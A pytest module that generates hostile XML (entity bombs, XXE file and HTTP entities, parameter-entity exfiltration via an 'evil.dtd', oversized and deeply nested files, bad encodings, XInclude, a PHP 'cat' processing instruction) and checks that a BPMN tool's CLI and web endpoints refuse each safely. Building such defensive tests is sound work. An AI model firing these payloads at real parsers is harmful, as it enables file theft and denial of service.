"""Hostile XML against every door a diagram comes in by: ``isobpmn validate FILE``, the live
validation of the modeler (POST /quy-trinh/kiem-tra) and the upload of a drawn diagram into a
draft (POST /quy-trinh/tai-len).

The corpus is made here, at test time: entity bombs, external entities and DTDs, parameter
entities, a 50 MB file, 100,000 levels of nesting, 100,000 elements, a huge attribute, bytes
that are not UTF-8, UTF-16 and UTF-32 with and without a byte order mark, processing
instructions, XInclude, a root that is not BPMN and zip-like binary; and ten megabytes of
empty elements, which libxml2 would need some 300 MB to hold as a tree. Each item goes through
each door in a child process forked from a driver that has already loaded everything, so that
the child's peak resident memory (``ru_maxrss``) less what it had at the start is what that
one input cost. Every refusal must say what is wrong (and where, when there is a where); no
door may answer 500, show a traceback, echo the secret file an entity points at, or open a
network connection; and no input may cost more than :data:`PEAK_MB`.

XInclude and processing instructions are legal XML: they are never acted on, so a diagram that
carries them is read like any other (and an uploaded one becomes a draft that still holds the
inert node, never what it points at).
"""

from __future__ import annotations

import html
import json
import random
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import EXAMPLE
from fixtures_services import AGENCY, TUESDAY
from fixtures_web import PASSWORD
from listening import Listener

from isobpmn.model.xmlsafe import MAX_ATTRIBUTE, MAX_ELEMENTS

#: Peak resident memory one input may add to the process that reads it, in MB.
PEAK_MB = 200
#: Longest one input may take through one door, in seconds (a child is killed after it).
SECONDS = 60
SECRET = "TOP-SECRET-TOKEN-7f3a"
GOOD = EXAMPLE.read_bytes()
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n'
DEFS = (b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
        b'id="D" targetNamespace="urn:x">\n')
END = b"</bpmn:definitions>\n"
DECLARATION = "DOCTYPE or ENTITY declaration is not allowed"
UPLOADER = "truongphong"


@dataclass(frozen=True)
class Item:
    """One hostile input: its bytes (or a file written in chunks), and what a refusal says.

    ``expect`` maps a door to a fragment of its message; ``inert`` items are legal diagrams
    that must be read without acting on what they point at."""

    name: str
    expect: dict[str, str]
    inert: bool = False
    #: The line a refusal points at, when the problem has one.
    line: int | None = None


def _refused(fragment: str, upload: str | None = None, *, live: str | None = None) -> dict:
    return {"cli": fragment, "live": live or fragment, "upload": upload or fragment}


CORPUS = [
    Item("billion-laughs", _refused(DECLARATION), line=2),
    Item("quadratic-blowup", _refused(DECLARATION), line=2),
    Item("xxe-file", _refused(DECLARATION), line=2),
    Item("xxe-http", _refused(DECLARATION), line=2),
    Item("external-dtd", _refused(DECLARATION), line=2),
    Item("parameter-entities", _refused(DECLARATION), line=2),
    Item("fifty-megabytes", _refused("larger than the limit of 10,485,760 bytes",
                                     "10 MB", live="10 MB")),
    Item("deep-nesting", _refused("nested too deeply"), line=3),
    Item("many-elements", _refused(f"more than {MAX_ELEMENTS:,} elements"), line=3),
    Item("tiny-elements", _refused(f"more than {MAX_ELEMENTS:,} elements"), line=3),
    Item("huge-attribute", _refused(f"characters long, more than {MAX_ATTRIBUTE:,}"), line=3),
    Item("invalid-utf8", _refused("not well-formed XML", "must be UTF-8", live="UTF-8")),
    Item("lone-surrogates", _refused("not well-formed XML", "must be UTF-8", live="UTF-8")),
    Item("utf16-bom", _refused("save it as UTF-8", "must be UTF-8", live="UTF-8")),
    Item("utf16-no-bom", _refused("save it as UTF-8", "must be UTF-8", live="UTF-8")),
    Item("utf32-bom", _refused("save it as UTF-8", "must be UTF-8", live="UTF-8")),
    Item("utf16-bom-utf8-bytes", _refused("save it as UTF-8", "must be UTF-8", live="UTF-8")),
    Item("utf8-bom-declared-utf16", {}, inert=True),
    Item("not-bpmn-root", _refused("not a BPMN 2.0 file"), line=2),
    Item("zip-binary", _refused("not well-formed XML", "must be UTF-8", live="UTF-8")),
    Item("processing-instructions", {}, inert=True),
    Item("xinclude", {}, inert=True),
]
DOORS = ("cli", "live", "upload")


def _bomb() -> bytes:
    entities = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10))
    return (HEAD + b"<!DOCTYPE bpmn:definitions [" + entities + b"]>\n" + DEFS
            + b'<bpmn:process id="P" name="&lol9;"/>' + END)


def _with_code(data: bytes, code: str) -> bytes:
    return data.replace(b'code="QT-HT-05"', f'code="{code}"'.encode())


def _write_items(folder: Path, secret: Path, url: str) -> dict[str, Path]:
    """Every item of :data:`CORPUS` as a file of ``folder``."""
    entity = (b'<bpmn:process id="P" name="&x;"/>' + END)
    data: dict[str, bytes] = {
        "billion-laughs": _bomb(),
        "quadratic-blowup": HEAD + b'<!DOCTYPE d [<!ENTITY x "' + b"A" * 100_000 + b'">]>\n'
        + DEFS + b'<bpmn:process id="P" name="' + b"&x;" * 30_000 + b'"/>' + END,
        "xxe-file": HEAD + f'<!DOCTYPE d [<!ENTITY x SYSTEM "{secret.as_uri()}">]>\n'.encode()
        + DEFS + entity,
        "xxe-http": HEAD + f'<!DOCTYPE d [<!ENTITY x SYSTEM "{url}/xxe">]>\n'.encode()
        + DEFS + entity,
        "external-dtd": HEAD + f'<!DOCTYPE bpmn:definitions SYSTEM "{url}/x.dtd">\n'.encode()
        + DEFS + b'<bpmn:process id="P"/>' + END,
        "parameter-entities": HEAD + (
            f'<!DOCTYPE d [\n<!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
            f'<!ENTITY % dtd SYSTEM "{url}/evil.dtd">\n%dtd;\n%send;\n]>\n').encode()
        + DEFS + entity,
        "deep-nesting": HEAD + DEFS + b"<bpmn:documentation>" * 100_000
        + b"</bpmn:documentation>" * 100_000 + END,
        "many-elements": HEAD + DEFS + b'<bpmn:process id="P">' + b"".join(
            b'<bpmn:task id="T%d"/>' % i for i in range(100_000)) + b"</bpmn:process>" + END,
        "tiny-elements": HEAD + DEFS + b"<a/>" * 2_500_000 + END,  # 300 MB as a tree
        "huge-attribute": HEAD + DEFS + b'<bpmn:process id="P" name="'
        + b"A" * (8 * 1024 * 1024) + b'"/>' + END,
        "invalid-utf8": GOOD.replace("Xác nhận".encode(), b"X\xe1c nh\xff\xfen", 1),
        "lone-surrogates": GOOD.replace("Xác nhận".encode(), "Xác \udce9nhận".encode(
            "utf-8", "surrogatepass"), 1),
        "utf16-bom": GOOD.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .encode("utf-16"),
        "utf16-no-bom": GOOD.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .encode("utf-16-le"),
        "utf32-bom": GOOD.decode().replace('encoding="UTF-8"', 'encoding="UTF-32"')
        .encode("utf-32"),
        "utf16-bom-utf8-bytes": b"\xff\xfe" + GOOD,
        "utf8-bom-declared-utf16": b"\xef\xbb\xbf" + _with_code(GOOD, "QT-BOM-01").replace(
            b'encoding="UTF-8"', b'encoding="UTF-16"'),
        "not-bpmn-root": HEAD + b'<svg xmlns="http://www.w3.org/2000/svg"><script>'
        + SECRET.encode() + b"</script></svg>",
        "zip-binary": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + random.Random(9).randbytes(200_000),
        "processing-instructions": _with_code(GOOD, "QT-PI-01").replace(
            b"<bpmn:definitions", f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>\n'
            f"<?php system('cat {secret}'); ?>\n<bpmn:definitions".encode(), 1),
        "xinclude": _with_code(GOOD, "QT-XI-01").replace(b"<bpmn:collaboration", (
            b'<bpmn:documentation><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            b'href="' + secret.as_uri().encode() + b'" parse="text"/></bpmn:documentation>\n'
            b"  <bpmn:collaboration"), 1),
    }
    paths = {}
    for name, content in data.items():
        paths[name] = folder / f"{name}.bpmn"
        paths[name].write_bytes(content)
    paths["fifty-megabytes"] = folder / "fifty-megabytes.bpmn"
    chunk = ("Hồ sơ gồm đơn, bản sao giấy tờ tùy thân và giấy tờ liên quan. " * 400).encode()
    with paths["fifty-megabytes"].open("wb") as out:
        out.write(HEAD + DEFS + b'<bpmn:process id="P"><bpmn:documentation>')
        for _ in range(50 * 1024 * 1024 // len(chunk) + 1):
            out.write(chunk)
        out.write(b"</bpmn:documentation></bpmn:process>" + END)
    assert {item.name for item in CORPUS} == set(paths)
    for name, path in paths.items():  # the live door takes JSON: {"xml": the text as sent}
        _write_json_body(path, path.with_suffix(".json"))
    return paths


def _write_json_body(source: Path, target: Path) -> None:
    """``{"xml": …}`` with the file's bytes as they are: escaped where JSON needs it, invalid
    UTF-8 left in (what a careless client would send), written in chunks. A lone surrogate is
    written as JSON writes one, ``\\udce9``: JSON that decodes to text UTF-8 cannot encode."""
    special = re.compile(rb'["\\\x00-\x1f]')
    if source.stem == "lone-surrogates":
        text = source.read_bytes().decode("utf-8", "surrogatepass")
        target.write_text(json.dumps({"xml": text}), encoding="ascii")
        return
    with source.open("rb") as data, target.open("wb") as out:
        out.write(b'{"xml": "')
        while chunk := data.read(1024 * 1024):
            out.write(special.sub(lambda m: b"\\u%04x" % m.group()[0], chunk))
        out.write(b'"}')


#: Runs in a child of the test: loads everything once, then forks once per input, so that the
#: child's ru_maxrss less its starting value is the cost of that one input.
DRIVER = r'''
import json, os, resource, select, shutil, signal, sys, time
door, items_file, seed, work = sys.argv[1:5]
items = json.loads(open(items_file).read())

def peak_kb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

if door == "cli":
    from isobpmn.cli import main
    import isobpmn.cli.validate, isobpmn.lint.runner  # what the command loads lazily
    from isobpmn.lint import all_rules
    all_rules()
else:
    from isobpmn.engine import ManualClock
    from isobpmn.services import Services
    from isobpmn.store import Database
    from isobpmn.web import create_app
    from datetime import datetime
    clock_at = datetime.fromisoformat(sys.argv[9])

if door != "cli":  # one app, signed in before the children are forked
    path = os.path.join(work, "isobpmn.sqlite3")
    shutil.copyfile(seed, path)
    db = Database.from_url(f"sqlite:///{path}")
    services = Services(db, ManualClock(clock_at))
    app = create_app({"TESTING": True, "SERVICES": services, "SESSION_COOKIE_SECURE": False,
                      "WTF_CSRF_ENABLED": False, "SECRET_KEY": "x", "RATELIMIT_ENABLED": False,
                      "PROPAGATE_EXCEPTIONS": False})
    client = app.test_client()
    assert client.post("/dang-nhap", data={"username": sys.argv[5],
                                          "password": sys.argv[6]}).status_code == 302
    client.get("/quy-trinh/")
    db.dispose()  # each child opens its own connection

def run(name, paths):
    if door == "cli":
        out = os.open(os.path.join(work, name + ".out"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
        os.dup2(out, 1)
        os.dup2(out, 2)
        start = peak_kb()
        try:
            main(["validate", "--format", "json", "--jobs", "1", paths["xml"]])
            code = 0
        except SystemExit as exc:
            code = exc.code
        end = peak_kb()
        sys.stdout.flush()
        sys.stderr.flush()
        text = open(os.path.join(work, name + ".out"), encoding="utf-8", errors="replace").read()
        return {"status": code, "text": text, "kb": end - start}
    start = peak_kb()
    if door == "live":
        size = os.path.getsize(paths["json"])
        with open(paths["json"], "rb") as body:
            response = client.post("/quy-trinh/kiem-tra", input_stream=body,
                                   content_length=size, content_type="application/json")
        text = response.get_data(as_text=True)
        end = peak_kb()
        return {"status": response.status_code, "text": text, "kb": end - start}
    with open(paths["xml"], "rb") as upload:
        response = client.post("/quy-trinh/tai-len", data={
            "file": (upload, name + ".bpmn"), "agency": sys.argv[7]},
            content_type="multipart/form-data")
    end = peak_kb()
    result = {"status": response.status_code, "location": response.headers.get("Location"),
              "text": response.get_data(as_text=True), "kb": end - start}
    if response.status_code == 302:  # the flash message is on the page redirected to
        page = client.get(response.headers["Location"])
        result["page_status"] = page.status_code
        result["text"] += page.get_data(as_text=True)
        if "/phien-ban/" in response.headers["Location"]:  # a draft: what it holds, as served
            diagram = client.get(response.headers["Location"] + ".bpmn")
            result["text"] += diagram.get_data(as_text=True)
            result["headers"] = dict(diagram.headers)
    return result

results = {}
for name, paths in items.items():
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        try:
            result = run(name, paths)
        except BaseException as exc:
            import traceback
            result = {"status": "crash", "text": traceback.format_exc(), "kb": 0}
        with os.fdopen(writer, "w") as pipe:
            pipe.write(json.dumps(result))
        os._exit(0)
    os.close(writer)
    chunks, deadline = [], time.monotonic() + float(sys.argv[8])
    while True:
        ready, _, _ = select.select([reader], [], [], max(0.0, deadline - time.monotonic()))
        if not ready:
            os.kill(pid, signal.SIGKILL)
            chunks = [json.dumps({"status": "timeout", "text": "", "kb": 0})]
            break
        chunk = os.read(reader, 1 << 20)
        if not chunk:
            break
        chunks.append(chunk.decode())
    os.close(reader)
    os.waitpid(pid, 0)
    results[name] = json.loads("".join(chunks))
print(json.dumps(results))
'''


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """The corpus on disk, the secret file its entities point at, and the listener."""
    folder = tmp_path_factory.mktemp("hostile-xml")
    secret = folder / "secret.txt"
    secret.write_text(SECRET + "\n", encoding="utf-8")
    listener = Listener()
    paths = _write_items(folder, secret, listener.url)
    yield folder, paths, listener
    listener.close()


@pytest.fixture(scope="module")
def results(corpus, seeded_file):
    """door → item → {"status", "text", "kb"}: every item through every door."""
    folder, paths, _ = corpus
    items = {name: {"xml": str(path), "json": str(path.with_suffix(".json"))}
             for name, path in paths.items()}
    (folder / "items.json").write_text(json.dumps(items), encoding="utf-8")
    (folder / "driver.py").write_text(DRIVER, encoding="utf-8")
    out: dict[str, dict] = {}
    for door in DOORS:
        work = folder / door
        work.mkdir(exist_ok=True)
        done = subprocess.run(
            [sys.executable, str(folder / "driver.py"), door, str(folder / "items.json"),
             str(seeded_file), str(work), UPLOADER, PASSWORD, AGENCY, str(SECONDS),
             TUESDAY.isoformat()],
            capture_output=True, text=True, timeout=SECONDS * len(paths), check=False)
        assert done.returncode == 0, done.stderr[-3000:]
        out[door] = json.loads(done.stdout.strip().splitlines()[-1])
    lines = [f"{'input':26} " + " ".join(f"{door:>16}" for door in DOORS)]
    for item in CORPUS:
        cells = [f"{out[door][item.name]['status']!s:>5} {out[door][item.name]['kb'] / 1024:7.1f} MB"
                 for door in DOORS]
        lines.append(f"{item.name:26} " + " ".join(f"{cell:>16}" for cell in cells))
    worst = max(out[door][item.name]["kb"] for door in DOORS for item in CORPUS) / 1024
    print(f"\nhostile XML: {len(CORPUS)} inputs × {len(DOORS)} doors (status, peak memory "
          f"over the reader's own), worst {worst:.1f} MB\n" + "\n".join(lines))
    return out


def _plain(text: str) -> str:
    """A page's text without tags, entities decoded (messages are shown HTML-escaped)."""
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", text)).split())


@pytest.mark.slow
@pytest.mark.parametrize("door", DOORS)
@pytest.mark.parametrize("item", CORPUS, ids=[item.name for item in CORPUS])
def test_each_input_through_each_door(results, item, door, capsys):
    result = results[door][item.name]
    text = result["text"]
    assert result["status"] not in ("crash", "timeout", 500), text[-3000:]
    assert "Traceback" not in text and "Internal Server Error" not in text
    assert SECRET not in text, "the secret file's content was shown"
    assert result["kb"] < PEAK_MB * 1024, f"{result['kb'] / 1024:.0f} MB"
    if door == "cli":
        _check_cli(item, result)
    elif door == "live":
        _check_live(item, result)
    else:
        _check_upload(item, result)


def _check_cli(item: Item, result: dict) -> None:
    reports = json.loads(result["text"][result["text"].index("["):
                                        result["text"].rindex("]") + 1])
    findings = reports[0]["findings"]
    readable = [f for f in findings if f["rule"] == "readable-bpmn-file"]
    if item.inert:
        assert not readable, readable
        return
    assert result["status"] == 1
    assert len(readable) == 1 and item.expect["cli"] in readable[0]["message"], findings
    assert "\n" not in readable[0]["message"] and len(readable[0]["message"]) < 500
    if item.line is not None:
        assert readable[0]["line"] == item.line, readable


def _check_live(item: Item, result: dict) -> None:
    body = json.loads(result["text"])
    if "error" in body:  # refused before validation: too large for a request
        assert result["status"] in (413, 422), body
        assert not item.inert and item.expect["live"] in body["error"]["message"], body
        return
    assert result["status"] == 200
    readable = [f for f in body["findings"] if f["rule"] == "readable-bpmn-file"]
    if item.inert:
        assert not readable, readable
        return
    assert len(readable) == 1 and item.expect["live"] in readable[0]["message"], body
    assert len(readable[0]["message"]) < 500
    if item.line is not None:
        assert readable[0]["line"] == item.line, readable


def _check_upload(item: Item, result: dict) -> None:
    page = _plain(result["text"])
    if item.inert:  # a draft was made; what it points at was never fetched nor included
        assert result["status"] == 302 and "/phien-ban/" in result["location"], page[:500]
        served = result["headers"]  # and a browser opening it acts on nothing it holds
        assert "sandbox" in served["Content-Security-Policy"], served
        assert served["X-Content-Type-Options"] == "nosniff"
        return
    assert result["status"] in (302, 413), page[:500]
    assert item.expect["upload"] in page, page[:2000]


@pytest.mark.slow
def test_no_door_opened_a_connection(results, corpus):
    assert corpus[2].connections == 0
